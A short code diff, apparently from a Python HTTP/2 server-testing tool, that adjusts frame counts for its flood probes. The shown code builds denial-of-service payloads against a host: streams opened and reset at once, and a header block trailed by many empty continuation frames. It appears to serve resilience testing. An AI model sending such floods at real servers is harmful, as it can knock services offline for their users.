@@ -23,7 +23,8 @@ _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _CONTINUATION = 0, 1, 3, 4, 6, 7, 9
 _END_STREAM, _END_HEADERS = 0x1, 0x4
 _OK = 0x88  # ":status: 200" of the static table
-_FLOOD = 2000
+_FLOOD = 1500  # frames that carry nothing
+_RESETS = 500
 _Pairs = Sequence[tuple[bytes, bytes]]
 
 
@@ -199,7 +200,7 @@ def _floods(found: Probe, host: str) -> None:
 
     opened = [
         h2_frame(_HEADERS, _END_HEADERS | _END_STREAM, number, block) + h2_frame(_RESET, 0, number, bytes(4))
-        for number in range(1, 2 * _FLOOD, 2)
+        for number in range(1, 2 * _RESETS, 2)
     ]
     found.attack("streams that are reset at once", endured, b"".join(opened))
     endless = h2_frame(_HEADERS, _END_STREAM, 1, block) + _FLOOD // 10 * h2_frame(_CONTINUATION, 0, 1, b"")
